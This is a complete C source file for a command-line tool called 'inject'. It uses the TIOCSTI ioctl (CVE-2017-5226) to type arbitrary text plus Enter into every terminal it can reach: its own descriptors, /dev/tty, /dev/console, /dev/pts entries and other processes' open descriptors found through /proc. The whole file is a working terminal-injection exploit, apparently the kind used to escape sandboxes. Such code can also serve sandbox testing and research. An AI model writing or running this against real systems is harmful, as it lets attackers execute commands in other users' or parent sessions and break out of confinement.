/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * inject TEXT: types TEXT, and Enter, into every terminal that it can reach, by
 * TIOCSTI (CVE-2017-5226): what it has open, what it can open in /dev and /dev/pts,
 * and what other processes of its /proc have open.
 */
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *text;

static void type_into(int fd)
{
	for (const char *at = text; *at; at++)
		ioctl(fd, TIOCSTI, at);
	ioctl(fd, TIOCSTI, "\n");
}

static void try_path(const char *path)
{
	int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY);

	if (fd < 0)
		return;
	type_into(fd);
	close(fd);
}

static void try_directory(const char *directory)
{
	DIR *entries = opendir(directory);
	struct dirent *entry;
	char path[512];

	while (entries && (entry = readdir(entries))) {
		snprintf(path, sizeof(path), "%s/%s", directory, entry->d_name);
		if (strcmp(entry->d_name, "ptmx") != 0)
			try_path(path);
	}
	if (entries)
		closedir(entries);
}

static void try_processes(void)
{
	DIR *processes = opendir("/proc");
	struct dirent *entry;
	char path[512];

	while (processes && (entry = readdir(processes))) {
		snprintf(path, sizeof(path), "/proc/%s/fd", entry->d_name);
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			try_directory(path);
	}
}

int main(int argc, char **argv)
{
	if (argc != 2)
		errx(2, "usage: inject TEXT");
	text = argv[1];
	for (int fd = 0; fd < 256; fd++)
		type_into(fd);
	try_path("/dev/tty");
	try_path("/dev/console");
	try_directory("/dev/pts");
	try_processes();
	return 0;
}
